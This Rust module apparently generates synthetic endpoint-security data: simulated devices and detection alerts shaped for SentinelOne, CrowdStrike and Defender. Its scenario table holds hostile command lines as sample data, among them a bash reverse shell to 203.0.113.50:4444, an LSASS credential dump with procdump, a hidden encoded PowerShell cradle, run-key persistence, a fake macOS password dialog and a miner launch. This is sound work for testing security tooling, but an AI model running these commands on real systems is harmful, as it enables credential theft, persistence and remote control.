//! What the simulated fleet and its threats look like, independent of any vendor's format:
//! a device's operating system, names and addresses; an alert's scenario, process and
//! hashes. Vendor modules render these in their own shapes and enum spellings.

use crate::{
    dataset::RecordRef,
    fake::{ipv6, mac_bytes, private_ipv4, public_ipv4, user_name, Rng, DAY, MIN, SEC},
    ids::feistel,
    world::{stream, World},
};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Family {
    Windows,
    Mac,
    Linux,
}

/// An operating system as each vendor names it.
#[derive(Debug)]
pub struct Os {
    pub family: Family,
    pub server: bool,
    /// Legacy Windows (SentinelOne's `windows_legacy`).
    pub legacy: bool,
    /// A Kubernetes node (SentinelOne's `kubernetes node`).
    pub k8s: bool,
    /// SentinelOne `osName` / CrowdStrike `os_version` / Defender `osPlatform`.
    pub s1_name: &'static str,
    pub cs_version: &'static str,
    pub mde_platform: &'static str,
    /// Defender `version`, CrowdStrike `os_product_name`.
    pub mde_version: &'static str,
    pub product_name: &'static str,
    pub build: &'static str,
    pub kernel: &'static str,
    pub major: &'static str,
    pub minor: &'static str,
    pub weight: u32,
}

macro_rules! os {
    ($fam:ident, $server:expr, $legacy:expr, $k8s:expr, $s1:expr, $cs:expr, $mde:expr, $mdev:expr, $prod:expr, $build:expr, $kernel:expr, $maj:expr, $min:expr, $w:expr) => {
        Os {
            family: Family::$fam,
            server: $server,
            legacy: $legacy,
            k8s: $k8s,
            s1_name: $s1,
            cs_version: $cs,
            mde_platform: $mde,
            mde_version: $mdev,
            product_name: $prod,
            build: $build,
            kernel: $kernel,
            major: $maj,
            minor: $min,
            weight: $w,
        }
    };
}

/// The fleet's operating systems with their share (rare ones included).
pub static OSES: &[Os] = &[
    os!(
        Windows,
        false,
        false,
        false,
        "Windows 10 Pro",
        "Windows 10",
        "Windows10",
        "22H2",
        "Windows 10 Pro",
        "19045",
        "10.0.19045.4291",
        "10",
        "0",
        30
    ),
    os!(
        Windows,
        false,
        false,
        false,
        "Windows 11 Enterprise",
        "Windows 11",
        "Windows11",
        "23H2",
        "Windows 11 Enterprise",
        "22631",
        "10.0.22631.3447",
        "10",
        "0",
        25
    ),
    os!(
        Windows,
        true,
        false,
        false,
        "Windows Server 2016 Standard",
        "Windows Server 2016",
        "WindowsServer2016",
        "1607",
        "Windows Server 2016 Standard",
        "14393",
        "10.0.14393.6897",
        "10",
        "0",
        4
    ),
    os!(
        Windows,
        true,
        false,
        false,
        "Windows Server 2019 Datacenter",
        "Windows Server 2019",
        "WindowsServer2019",
        "1809",
        "Windows Server 2019 Datacenter",
        "17763",
        "10.0.17763.5696",
        "10",
        "0",
        6
    ),
    os!(
        Windows,
        true,
        false,
        false,
        "Windows Server 2022 Standard",
        "Windows Server 2022",
        "WindowsServer2022",
        "21H2",
        "Windows Server 2022 Standard",
        "20348",
        "10.0.20348.2402",
        "10",
        "0",
        6
    ),
    os!(
        Windows,
        false,
        true,
        false,
        "Windows 7 Professional",
        "Windows 7",
        "Windows7",
        "1601",
        "Windows 7 Professional",
        "7601",
        "6.1.7601.24546",
        "6",
        "1",
        1
    ),
    os!(
        Mac,
        false,
        false,
        false,
        "macOS Sonoma",
        "Sonoma (14)",
        "macOS",
        "14.4",
        "macOS",
        "23E214",
        "23.4.0",
        "23",
        "4",
        10
    ),
    os!(
        Mac,
        false,
        false,
        false,
        "macOS Ventura",
        "Ventura (13)",
        "macOS",
        "13.6",
        "macOS",
        "22G120",
        "22.6.0",
        "22",
        "6",
        4
    ),
    os!(
        Linux,
        true,
        false,
        false,
        "Linux",
        "Ubuntu 22.04",
        "Ubuntu",
        "22.4",
        "Ubuntu 22.04.4 LTS",
        "5.15.0-105-generic",
        "5.15.0-105-generic",
        "5",
        "15",
        6
    ),
    os!(
        Linux,
        true,
        false,
        false,
        "Linux",
        "RHEL 9.3",
        "RedHatEnterpriseLinux",
        "9.3",
        "Red Hat Enterprise Linux 9.3 (Plow)",
        "5.14.0-362.24.1.el9_3.x86_64",
        "5.14.0-362.24.1.el9_3.x86_64",
        "5",
        "14",
        4
    ),
    os!(
        Linux,
        true,
        false,
        false,
        "Linux",
        "Amazon Linux 2",
        "Linux",
        "2",
        "Amazon Linux 2",
        "5.10.214-202.855.amzn2.x86_64",
        "5.10.214-202.855.amzn2.x86_64",
        "5",
        "10",
        3
    ),
    os!(
        Linux,
        true,
        false,
        true,
        "Linux",
        "Ubuntu 20.04",
        "Ubuntu",
        "20.4",
        "Ubuntu 20.04.6 LTS",
        "5.4.0-176-generic",
        "5.4.0-176-generic",
        "5",
        "4",
        1
    ),
];

/// Hardware (manufacturer, model) by kind.
const WORKSTATIONS: &[(&str, &str)] = &[
    ("Dell Inc.", "Latitude 5440"),
    ("LENOVO", "20XW0026US"),
    ("HP", "HP EliteBook 840 G9"),
    ("Microsoft Corporation", "Surface Laptop 5"),
];
const SERVERS: &[(&str, &str)] = &[
    ("VMware, Inc.", "VMware7,1"),
    ("Microsoft Corporation", "Virtual Machine"),
    ("Amazon EC2", "t3.large"),
    ("Dell Inc.", "PowerEdge R750"),
];
const MACS: &[(&str, &str)] = &[
    ("Apple Inc.", "MacBookPro18,3"),
    ("Apple Inc.", "Mac14,2"),
    ("Apple Inc.", "Macmini9,1"),
];

pub const AD_DOMAINS: &[&str] = &["CORP", "EMEA", "LAB"];
const WIN_PREFIXES: &[&str] = &["DESKTOP", "LAPTOP", "WS-FIN", "WS-HR", "WS-ENG", "LT-SALES"];
const SRV_PREFIXES: &[&str] = &["SRV-SQL", "SRV-DC", "SRV-WEB", "SRV-FILE", "SRV-APP"];
const LINUX_PREFIXES: &[&str] = &["web-prod", "db", "build", "api-stg", "k8s-node"];
/// Agent versions, oldest first (a device's version moves up as it checks in).
pub const AGENT_VERSIONS: &[&str] = &[
    "7.10.17706.0",
    "7.11.18110.0",
    "7.13.18309.0",
    "7.14.18408.0",
    "7.15.18513.0",
];

/// A device as the simulated tenant knows it.
#[derive(Debug, Clone)]
pub struct DeviceCore {
    pub index: u64,
    pub version: u32,
    pub os: &'static Os,
    pub hostname: String,
    /// Active Directory domain (NetBIOS name), None when not joined.
    pub domain: Option<&'static str>,
    pub user: String,
    pub local_ip: String,
    pub ipv6: String,
    pub external_ip: String,
    pub gateway_ip: String,
    pub mac: [u8; 6],
    pub gateway_mac: [u8; 6],
    pub manufacturer: &'static str,
    pub model: &'static str,
    pub serial: String,
    /// A cloud instance (AWS) for some servers: (instance id, region, account).
    pub cloud: Option<(String, &'static str, String)>,
    /// 0..3: which site / group / OU the device belongs to.
    pub site: usize,
    pub first_seen: i64,
    pub last_seen: i64,
    pub updated: i64,
    pub agent_version_index: usize,
}

impl DeviceCore {
    /// A laptop (for vendors that tell laptops and desktops apart).
    pub fn is_laptop(&self) -> bool {
        !self.os.server
            && (self.hostname.starts_with("LAPTOP")
                || self.hostname.starts_with("LT-")
                || self.os.family == Family::Mac)
    }

    pub fn agent_version(&self) -> &'static str {
        AGENT_VERSIONS[self.agent_version_index]
    }
}

/// A 7-character base-36 code unique per device index (hostname suffix).
fn host_code(index: u64, seed: u64) -> String {
    let mut n = feistel(index, 100_000, seed ^ 0x4057);
    let mut s = Vec::new();
    for _ in 0..7 {
        s.push(b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"[(n % 36) as usize]);
        n /= 36;
    }
    s.reverse();
    String::from_utf8(s).unwrap_or_default()
}

/// The device behind record `r` of `world.devices`.
pub fn device(world: &World, r: &RecordRef) -> DeviceCore {
    let mut g = Rng::for_record(world.seed, stream::DEVICE, r.index);
    let weights: Vec<(usize, u32)> = OSES
        .iter()
        .enumerate()
        .map(|(i, o)| (i, o.weight))
        .collect();
    let os = &OSES[g.weighted(&weights)];
    let code = host_code(r.index, world.seed);
    let hostname = match os.family {
        Family::Windows if os.server => format!("{}-{}", g.pick(SRV_PREFIXES), code),
        Family::Windows => format!("{}-{}", g.pick(WIN_PREFIXES), code),
        Family::Mac => format!("MBP-{code}"),
        Family::Linux if os.k8s => format!("k8s-node-{}", code.to_lowercase()),
        Family::Linux => format!("{}-{}", g.pick(LINUX_PREFIXES), code.to_lowercase()),
    };
    let domain = (os.family == Family::Windows && g.chance(80)).then(|| g.pick(AD_DOMAINS));
    let (manufacturer, model) = match os.family {
        Family::Mac => g.pick(MACS),
        _ if os.server => g.pick(SERVERS),
        _ => g.pick(WORKSTATIONS),
    };
    let cloud = (manufacturer == "Amazon EC2" || (os.family == Family::Linux && g.chance(60)))
        .then(|| {
            (
                format!("i-{}", g.hex(17)),
                g.pick(&["us-east-1", "eu-west-1", "us-west-2"]),
                g.digits(12),
            )
        });
    let first_seen = r.origin - 30 * DAY - g.range(0, 400) * DAY - g.range(0, 86_399) * SEC;
    let mut device = DeviceCore {
        index: r.index,
        version: r.version,
        os,
        hostname,
        domain,
        user: user_name(&mut g),
        local_ip: private_ipv4(&mut g),
        ipv6: ipv6(&mut g),
        external_ip: public_ipv4(&mut g),
        gateway_ip: String::new(),
        mac: mac_bytes(&mut g),
        gateway_mac: mac_bytes(&mut g),
        manufacturer,
        model,
        serial: g.chars(12, b"ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"),
        cloud,
        site: g.below(3) as usize,
        first_seen: if r.index >= world.devices.base_count() {
            r.origin - g.range(1, 30) * MIN
        } else {
            first_seen
        },
        last_seen: r.updated - g.range(0, 90) * SEC,
        updated: r.updated,
        agent_version_index: g.below(AGENT_VERSIONS.len() as u64 - 1) as usize,
    };
    let mut parts: Vec<&str> = device.local_ip.rsplitn(2, '.').collect();
    parts.reverse();
    device.gateway_ip = format!("{}.1", parts[0]);
    // Each check-in may bring a sensor update; changes move the device along.
    let mut change = Rng::for_record(world.seed, stream::DEVICE_CHANGE, r.index);
    for _ in 0..r.version {
        if change.chance(30) && device.agent_version_index + 1 < AGENT_VERSIONS.len() {
            device.agent_version_index += 1;
        }
        if change.chance(20) {
            device.local_ip = private_ipv4(&mut change);
        }
    }
    device
}

/// What happened, as a detection: one row per kind of threat.
#[derive(Debug)]
pub struct Scenario {
    pub family: Family,
    /// Human title (Defender `title`, CrowdStrike `display_name`).
    pub title: &'static str,
    pub description: &'static str,
    /// CrowdStrike pattern name and id.
    pub cs_name: &'static str,
    pub pattern_id: u32,
    pub tactic_id: &'static str,
    pub tactic: &'static str,
    pub technique_id: &'static str,
    pub technique: &'static str,
    pub filename: &'static str,
    pub folder: &'static str,
    pub args: &'static str,
    pub parent: &'static str,
    pub parent_folder: &'static str,
    /// SentinelOne classification and Defender category.
    pub classification: &'static str,
    pub category: &'static str,
    /// (low, high) CrowdStrike severity score.
    pub severity: (i64, i64),
    pub weight: u32,
}

macro_rules! sc {
    ($fam:ident, $title:expr, $desc:expr, $cs:expr, $pid:expr, $taid:expr, $ta:expr, $teid:expr, $te:expr, $file:expr, $folder:expr, $args:expr, $parent:expr, $pfolder:expr, $class:expr, $cat:expr, $sev:expr, $w:expr) => {
        Scenario {
            family: Family::$fam,
            title: $title,
            description: $desc,
            cs_name: $cs,
            pattern_id: $pid,
            tactic_id: $taid,
            tactic: $ta,
            technique_id: $teid,
            technique: $te,
            filename: $file,
            folder: $folder,
            args: $args,
            parent: $parent,
            parent_folder: $pfolder,
            classification: $class,
            category: $cat,
            severity: $sev,
            weight: $w,
        }
    };
}

/// Detection scenarios, common and rare.
pub static SCENARIOS: &[Scenario] = &[
    sc!(Windows, "Suspicious PowerShell download cradle", "A PowerShell process downloaded and ran content from the internet.", "PowerShellDownloadCradle", 10247, "TA0002", "Execution", "T1059.001", "PowerShell", "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", "Malware", "Execution", (50, 80), 20),
    sc!(Windows, "Credential dumping from LSASS memory", "A process read the memory of lsass.exe, which holds credentials.", "CredentialDumpingLsass", 5701, "TA0006", "Credential Access", "T1003.001", "LSASS Memory", "procdump64.exe", "C:\\Users\\Public\\Downloads", "-accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp", "cmd.exe", "C:\\Windows\\System32", "Hacktool", "CredentialAccess", (80, 99), 8),
    sc!(Windows, "Low-reputation DLL run by rundll32", "rundll32.exe ran a DLL with a low reputation.", "Rundll32LowRepDll", 5761, "TA0005", "Defense Evasion", "T1218.011", "Rundll32", "rundll32.exe", "C:\\Windows\\SysWOW64", "C:\\Users\\Public\\AppData\\Local\\Temp\\update.dll,DllRegisterServer", "explorer.exe", "C:\\Windows", "Trojan", "DefenseEvasion", (40, 70), 14),
    sc!(Windows, "Ransomware behavior: mass file encryption", "A process renamed and encrypted many user files.", "RansomwareFileEncryption", 4510, "TA0040", "Impact", "T1486", "Data Encrypted for Impact", "invoice_2026.pdf.exe", "C:\\Users\\Public\\AppData\\Local\\Temp", "--silent --all-drives", "outlook.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", "Ransomware", "Ransomware", (90, 100), 3),
    sc!(Windows, "Registry run key persistence", "A run key was added that starts an unsigned binary at logon.", "RegistryRunKeyPersistence", 10144, "TA0003", "Persistence", "T1547.001", "Registry Run Keys / Startup Folder", "reg.exe", "C:\\Windows\\System32", "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d C:\\ProgramData\\svch0st.exe", "cmd.exe", "C:\\Windows\\System32", "Malware", "Persistence", (30, 60), 10),
    sc!(Windows, "Adware bundled installer", "This file meets the Adware/PUP machine-learning threshold.", "PrewittPupAdwareSensorDetect-Lowest", 5761, "CSTA0004", "Machine Learning", "CST0000", "Adware/PUP", "setup_free_converter.exe", "C:\\Users\\Public\\Downloads", "/S", "explorer.exe", "C:\\Windows", "PUA", "UnwantedSoftware", (10, 30), 16),
    sc!(Windows, "Lateral movement with PsExec", "A service was created remotely over SMB admin shares.", "PsExecLateralMovement", 10371, "TA0008", "Lateral Movement", "T1021.002", "SMB/Windows Admin Shares", "PSEXESVC.exe", "C:\\Windows", "-accepteula \\\\SRV-FILE cmd.exe", "services.exe", "C:\\Windows\\System32", "Hacktool", "LateralMovement", (60, 85), 5),
    sc!(Mac, "Suspicious osascript credential prompt", "osascript displayed a fake password dialog.", "MacOsascriptCredentialPrompt", 20311, "TA0006", "Credential Access", "T1056.002", "GUI Input Capture", "osascript", "/usr/bin", "-e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'", "bash", "/bin", "Infostealer", "CredentialAccess", (60, 80), 6),
    sc!(Mac, "Unsigned launch agent persistence", "An unsigned binary was registered as a launch agent.", "MacLaunchAgentPersistence", 20157, "TA0003", "Persistence", "T1543.001", "Launch Agent", "com.apple.updater", "/Users/Shared/.cache", "--daemon", "launchd", "/sbin", "Malware", "Persistence", (40, 70), 4),
    sc!(Linux, "Cryptominer started from /tmp", "A known cryptocurrency miner ran from a temporary folder.", "LinuxCryptominer", 30412, "TA0040", "Impact", "T1496", "Resource Hijacking", "xmrig", "/tmp/.cache", "-o pool.example.net:3333 --donate-level 1", "bash", "/usr/bin", "Miner", "Malware", (50, 75), 7),
    sc!(Linux, "Reverse shell via bash", "bash redirected its input and output to a network socket.", "LinuxReverseShell", 30188, "TA0011", "Command and Control", "T1071.001", "Web Protocols", "bash", "/usr/bin", "-i >& /dev/tcp/203.0.113.50/4444 0>&1", "python3", "/usr/bin", "Exploit", "CommandAndControl", (70, 95), 4),
    sc!(Linux, "System discovery commands", "A sequence of discovery commands ran from a web server process.", "LinuxSystemDiscovery", 30077, "TA0007", "Discovery", "T1082", "System Information Discovery", "uname", "/usr/bin", "-a", "php-fpm", "/usr/sbin", "Suspicious", "SuspiciousActivity", (20, 45), 6),
];

/// An alert as the simulated tenant knows it.
#[derive(Debug, Clone)]
pub struct AlertCore {
    pub index: u64,
    pub version: u32,
    pub device: DeviceCore,
    pub scenario: &'static Scenario,
    /// CrowdStrike-style 1–100 score (vendors map it to their own scale).
    pub severity: i64,
    pub sha256: String,
    pub sha1: String,
    pub md5: String,
    pub pid: u32,
    pub parent_pid: u32,
    pub user: String,
    pub user_sid: String,
    /// When the first event happened, when the alert was created, when last updated.
    pub event_time: i64,
    pub created: i64,
    pub updated: i64,
    /// Uniform draws that vendor modules use to pick their own enum values consistently.
    pub roll: [u64; 4],
}

impl AlertCore {
    pub fn file_path(&self, sep: char) -> String {
        format!("{}{sep}{}", self.scenario.folder, self.scenario.filename)
    }

    pub fn command_line(&self) -> String {
        let exe = self.file_path(if self.device.os.family == Family::Windows {
            '\\'
        } else {
            '/'
        });
        if exe.contains(' ') {
            format!("\"{exe}\" {}", self.scenario.args)
        } else {
            format!("{exe} {}", self.scenario.args)
        }
    }
}

/// The alert behind record `r` of `world.alerts` (its device in its current state).
pub fn alert(world: &World, r: &RecordRef) -> AlertCore {
    let mut g = Rng::for_record(world.seed, stream::ALERT, r.index);
    let device_index = world.alert_device(r.index);
    let device_ref = world.devices.get(device_index).unwrap_or(RecordRef {
        index: device_index,
        version: 0,
        updated: r.origin,
        origin: r.origin,
    });
    let device = device(world, &device_ref);
    let candidates: Vec<(usize, u32)> = SCENARIOS
        .iter()
        .enumerate()
        .filter(|(_, s)| s.family == device.os.family)
        .map(|(i, s)| (i, s.weight))
        .collect();
    let scenario = &SCENARIOS[g.weighted(&candidates)];
    let created = r.origin - g.range(1, 5) * SEC;
    AlertCore {
        index: r.index,
        version: r.version,
        scenario,
        severity: g.range(scenario.severity.0, scenario.severity.1),
        sha256: g.hex(64),
        sha1: g.hex(40),
        md5: g.hex(32),
        pid: 1000 + g.below(60_000) as u32,
        parent_pid: 400 + g.below(20_000) as u32,
        user: device.user.clone(),
        user_sid: crate::fake::sid(&mut g),
        event_time: created - g.range(20, 600) * SEC,
        created,
        updated: r.updated,
        roll: [g.next_u64(), g.next_u64(), g.next_u64(), g.next_u64()],
        device,
    }
}

/// Picks from `items` by weight using a pre-drawn roll (so a value is stable per alert).
pub fn by_roll<T: Copy>(roll: u64, items: &[(T, u32)]) -> T {
    let total: u64 = items.iter().map(|(_, w)| u64::from(*w)).sum();
    let mut x = roll % total.max(1);
    for (item, w) in items {
        if x < u64::from(*w) {
            return *item;
        }
        x -= u64::from(*w);
    }
    items[items.len() - 1].0
}

/// A status that has moved `steps` along `cycle` from `start`.
pub fn progressed<T: Copy + PartialEq>(start: T, steps: u32, cycle: &[T]) -> T {
    match cycle.iter().position(|s| *s == start) {
        Some(i) => cycle[(i + steps as usize) % cycle.len()],
        None if steps == 0 => start,
        None => cycle[(steps as usize - 1) % cycle.len()],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn devices_and_alerts_are_consistent() {
        let w = World::new(42, 200, 500, 1_700_000_000_000_000_000, (1_000, 1_000));
        let mut names = std::collections::HashSet::new();
        for i in 0..200 {
            let d = device(&w, &w.devices.get(i).unwrap());
            assert!(names.insert(d.hostname.clone()), "hostnames are unique");
            assert!(d.first_seen < d.last_seen);
        }
        for i in 0..500 {
            let a = alert(&w, &w.alerts.get(i).unwrap());
            assert_eq!(a.scenario.family, a.device.os.family);
            assert!(a.event_time < a.created && a.created <= a.updated);
            assert!((1..=100).contains(&a.severity));
        }
        assert_eq!(
            progressed("new", 2, &["new", "in_progress", "closed"]),
            "closed"
        );
        assert_eq!(
            progressed("new", 4, &["new", "in_progress", "closed"]),
            "in_progress"
        );
        assert_eq!(progressed("odd", 1, &["new", "in_progress"]), "new");
    }
}
